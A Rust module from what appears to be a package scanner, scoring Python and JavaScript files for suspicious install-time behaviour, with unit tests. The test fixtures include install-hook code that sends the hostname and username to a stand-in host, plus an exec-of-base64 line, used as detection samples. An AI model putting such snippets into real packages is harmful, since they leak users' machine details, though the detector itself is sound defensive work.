//! The suspicious-code score: the sum of the weights of what one source file does, by a table of features.
//!
//! A single feature is nothing: installers start programs, and honest code decodes. What counts is several in one file,
//! because attacks put everything they do into the file that runs first. Nothing is run, and nobody is asked.

use bstr::{BStr, ByteSlice};
use regex::bytes::Regex;

use super::artefact::{Artefact, Member};

const TABLE: &str = include_str!("../../rules/publish/suspicion.tsv");

/// The score from which a file is suspicious.
const SUSPICIOUS: u32 = 6;

/// The part of a file that is read, in bytes: a payload hides in a small file, and generated code has no end.
const READ: usize = 1 << 20;

/// One row of the table.
struct Feature {
    language: &'static str,
    place: &'static str,
    weight: u32,
    what: &'static str,
    regex: Regex,
}

/// A suspicious file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Suspicion<'a> {
    /// Its path.
    pub path: &'a BStr,
    /// The sum of the weights.
    pub score: u32,
    /// What it does, each in words.
    pub what: Vec<&'static str>,
}

impl Suspicion<'_> {
    /// The file's features in one sentence.
    pub fn sentence(&self) -> String {
        format!("suspicious code, score {} of {SUSPICIOUS}: {}", self.score, self.what.join("; "))
    }
}

/// The suspicious source files of an artefact, the most suspicious first.
pub fn suspicions(artefact: &Artefact) -> Vec<Suspicion<'_>> {
    let sources: Vec<(&Member, &str)> =
        artefact.members.iter().filter_map(|member| Some((member, language(member.path.as_ref())?))).collect();
    if sources.is_empty() {
        return Vec::new();
    }
    let features = features();
    let scripts = install_scripts(artefact);
    let scored = sources.into_iter().map(|(member, language)| {
        let place = place(member.path.as_ref(), &scripts);
        let text = &member.content[..member.content.len().min(READ)];
        let shown = |feature: &&Feature| {
            feature.language == language
                && (feature.place == "any" || feature.place == place)
                && feature.regex.is_match(text)
        };
        let shown: Vec<&Feature> = features.iter().filter(shown).collect();
        let (path, score) = (member.path.as_ref(), shown.iter().map(|feature| feature.weight).sum());
        Suspicion { path, score, what: shown.iter().map(|feature| feature.what).collect() }
    });
    let mut found: Vec<Suspicion<'_>> = scored.filter(|file| file.score >= SUSPICIOUS).collect();
    found.sort_by(|a, b| b.score.cmp(&a.score).then_with(|| a.path.cmp(b.path)));
    found
}

fn features() -> Vec<Feature> {
    TABLE.lines().filter(|line| !line.starts_with('#') && !line.is_empty()).filter_map(feature).collect()
}

fn feature(line: &'static str) -> Option<Feature> {
    let mut fields = line.split('\t').skip(1);
    let (language, place) = (fields.next()?, fields.next()?);
    let (weight, what) = (fields.next()?.parse().ok()?, fields.next()?);
    Some(Feature { language, place, weight, what, regex: Regex::new(fields.next()?).ok()? })
}

fn language(path: &BStr) -> Option<&'static str> {
    match path.rsplit(|b| *b == b'.').next()? {
        b"js" | b"cjs" | b"mjs" => Some("javascript"),
        b"py" | b"pyw" | b"pth" => Some("python"),
        _ => None,
    }
}

/// When the file runs: while the package is installed, when it is imported, at every start, or when it is called.
fn place(path: &BStr, scripts: &str) -> &'static str {
    let name = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
    match name {
        b"setup.py" => "setup",
        b"__init__.py" => "init",
        _ if name.ends_with(b".pth") => "pth",
        _ if !scripts.is_empty() && scripts.contains(&*path.to_str_lossy()) => "setup",
        _ => "any",
    }
}

/// The events of npm that run a command while the package is installed, each with its command.
pub(super) fn install_events(artefact: &Artefact) -> Vec<(&'static str, String)> {
    let manifest = artefact.member(BStr::new("package.json"));
    let manifest = manifest.and_then(|member| serde_json::from_slice::<serde_json::Value>(&member.content).ok());
    let Some(scripts) = manifest.as_ref().and_then(|manifest| manifest.get("scripts")) else { return Vec::new() };
    let events = ["preinstall", "install", "postinstall"].into_iter();
    events.filter_map(|event| Some((event, scripts.get(event)?.as_str()?.to_owned()))).collect()
}

/// The commands that npm runs while it installs the package.
fn install_scripts(artefact: &Artefact) -> String {
    let commands: Vec<String> = install_events(artefact).into_iter().map(|(_, command)| command).collect();
    commands.join("\n").trim().to_owned()
}

#[cfg(test)]
mod tests {
    use super::super::MemberPart;
    use super::*;

    #[test]
    fn every_row_of_the_table_is_read_and_every_word_of_it_is_known() {
        let rows = TABLE.lines().filter(|line| !line.starts_with('#') && !line.is_empty()).count();
        let features = features();
        assert_eq!(features.len(), rows);
        for feature in &features {
            assert!(["python", "javascript"].contains(&feature.language), "{}", feature.what);
            assert!(["setup", "init", "pth", "any"].contains(&feature.place), "{}", feature.what);
            assert!((1..=SUSPICIOUS).contains(&feature.weight), "{}", feature.what);
        }
    }

    #[test]
    fn the_page_has_every_feature() {
        let page = include_str!("../../docs/packages.md");
        for line in TABLE.lines().filter(|line| !line.starts_with('#') && !line.is_empty()) {
            let fields: Vec<&str> = line.split('\t').collect();
            let row = format!("| `{}` | {} | {} | {} | {} |", fields[0], fields[1], fields[2], fields[3], fields[4]);
            assert!(page.contains(&row), "docs/packages.md lacks {row}");
        }
    }

    fn of(files: &[(&str, &str)]) -> Artefact {
        let member = |(path, content): &(&str, &str)| Member {
            path: (*path).into(),
            content: content.as_bytes().to_vec(),
            odd: Vec::new(),
            part: MemberPart::File,
        };
        Artefact {
            name: String::new(),
            sha256: String::new(),
            size: 0,
            format: None,
            members: files.iter().map(member).collect(),
            unread: Vec::new(),
            is_named: false,
        }
    }

    #[test]
    fn several_features_of_one_file_are_suspicious_and_one_is_not() {
        let score = |files: &[(&str, &str)]| suspicions(&of(files)).first().map(Suspicion::sentence);
        let fetch = "from setuptools import setup\nimport urllib.request, socket\nhost = socket.gethostname()\n\
                     urllib.request.urlopen('https://x.example/' + host)\nsetup(name='x')\n";
        assert!(score(&[("setup.py", fetch)]).unwrap().contains("while it is installed"));
        // The same where nobody runs it by installing.
        assert_eq!(score(&[("client.py", fetch)]), None);
        assert_eq!(score(&[("setup.py", "import subprocess\nsubprocess.run(['cc'])\n")]), None);
        assert!(score(&[("a.py", "exec(base64.b64decode(x))\n")]).is_some());
        let script = ("package.json", r#"{"scripts": {"postinstall": "node lib/setup.js"}}"#);
        let code = "const https = require('https'); const os = require('os');\n\
                    https.request({host: 'x.example', path: os.hostname() + os.userInfo().username});\n";
        assert!(score(&[script, ("lib/setup.js", code)]).is_some());
        assert_eq!(score(&[("package.json", "{}"), ("lib/setup.js", code)]), None);
    }
}
